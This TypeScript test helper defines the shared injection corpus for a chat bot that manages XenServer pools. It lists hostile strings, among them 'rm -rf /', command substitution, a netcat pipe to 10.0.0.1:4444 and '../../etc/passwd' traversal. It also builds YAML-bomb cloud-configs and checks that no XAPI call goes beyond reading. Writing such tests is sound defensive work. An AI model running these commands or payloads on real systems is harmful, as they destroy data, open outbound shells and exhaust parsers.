/**
 * The generated corpus of the injection suites (issue #13) and what they count as harmless on the XAPI
 * side. Shared by the typed-argument suite (injection-corpus.test.ts) and the form-field suite
 * (form-injection.test.ts), so both attack with the same strings and judge by the same rules.
 */
import type { Reply } from '../../src/core/reply.js'
import type { SimPool } from '../../src/sim/sim-pool.js'
import { plain } from '../helpers/test-chat.js'
import { callsSince } from '../helpers/xen.js'

/** Shell metacharacters, quotes, newlines, traversal, overlong and non-UTF-8 input, markup, escapes. */
export const HOSTILE: readonly string[] = [
  '; rm -rf /',
  '$(id)',
  '`reboot`',
  'web-1 && halt',
  'a | nc 10.0.0.1 4444',
  "it's",
  '"quoted"',
  'line1\nline2',
  'carriage\rreturn',
  '../../etc/passwd',
  '/var/run/docker.sock',
  'x'.repeat(10_000),
  '\ud800\udfff\ud800',
  'nul\u0000byte',
  '\u001b[31mred\u001b[0m',
  '<!channel>',
  '@everyone',
  'zero\u200bwidth',
  '%XSCONTAINERRSAPUB%',
  '--all',
  '*',
]

/** The xscontainer entry a legacy pool's cloud-config must keep (so a bomb is refused as a bomb, not for that). */
const KEEP = 'ssh_authorized_keys:\n  - ssh-rsa %XSCONTAINERRSAPUB%\n'
const nine = (item: string) => `[${Array.from({ length: 9 }, () => item).join(', ')}]`

/**
 * Cloud-configs built to hurt whatever reads them: an alias bomb (billion laughs), nesting deep enough to
 * exhaust a recursive walker, a JavaScript type tag, an alias that contains itself, a document far over the size
 * limit, and a multi-document stream. Each starts with `#cloud-config` so it is judged on its YAML.
 */
export const YAML_BOMBS: readonly { readonly kind: string; readonly text: string }[] = [
  {
    kind: 'billion laughs',
    text: [
      '#cloud-config',
      `a: &a ${nine('"lol"')}`,
      ...['b', 'c', 'd', 'e', 'f', 'g', 'h'].map((k, i) => `${k}: &${k} ${nine(`*${'abcdefgh'[i]}`)}`),
      KEEP,
    ].join('\n'),
  },
  { kind: 'deep nesting', text: `#cloud-config\nx: ${'['.repeat(20_000)}${']'.repeat(20_000)}\n${KEEP}` },
  {
    kind: 'deep block nesting',
    text: `#cloud-config\n${Array.from({ length: 300 }, (_, i) => `${' '.repeat(i)}k${i}:`).join('\n')} x\n${KEEP}`,
  },
  { kind: 'a JavaScript function tag', text: `#cloud-config\nx: !!js/function "function () { return 1 }"\n${KEEP}` },
  { kind: 'an alias inside its own anchor (a cycle)', text: `#cloud-config\na: &a [*a]\n${KEEP}` },
  { kind: 'a huge document', text: `#cloud-config\n${KEEP}${'write_files: []\n'.repeat(6_000)}` },
  { kind: 'several documents', text: `#cloud-config\n${KEEP}---\nruncmd: [reboot]\n` },
]

/** Read-only XAPI methods any command may call while resolving (and the client's own session upkeep). */
const READ_ONLY = /^(session\.|event\.|[A-Za-z_]+\.get_|[A-Za-z_]+\.get_all|pool\.get_)/

/**
 * Plugin functions that only read the pool's cloud-config (the form of /coreos create prefills from the
 * first). Not get_inspect or get_top: they take a container id into dom0, so a hostile argument must be
 * refused before them.
 */
const PLUGIN_READS = /^xscontainer\.(get_config_drive_default|get_config_drive_configuration)$/

export interface XapiCounts {
  /** Methods and plugin functions called since the counts were taken that are neither reads nor harmless. */
  acted(): string[]
}

/** Counts every pool's calls from now on; `acted()` names what went beyond reading. */
export function countXapi(pools: readonly SimPool[]): XapiCounts {
  const taken = pools.map((pool) => ({ pool, calls: new Map(pool.callCounts), plugins: new Map(pool.pluginCalls) }))
  return {
    acted: () =>
      taken.flatMap(({ pool, calls, plugins }) => {
        const acted = [...pool.pluginCalls]
          .filter(([fn, count]) => count > (plugins.get(fn) ?? 0) && !PLUGIN_READS.test(fn))
          .map(([fn]) => `${pool.name}: ${fn}`)
        const writes = Object.keys(callsSince(pool, calls))
          .filter((m) => !READ_ONLY.test(m) && !(m === 'host.call_plugin' && acted.length === 0))
          .map((m) => `${pool.name}: ${m}`)
        return [...writes, ...acted]
      }),
  }
}

/** The dispatcher's answer to a bug (not a refusal): "Something went wrong on our side (request id …)". */
export const isBug = (reply: Reply) => /went wrong on our side/.test(plain(reply))

/** A short description of a hostile value for failure messages. */
export const label = (value: string) => JSON.stringify(value.slice(0, 40))
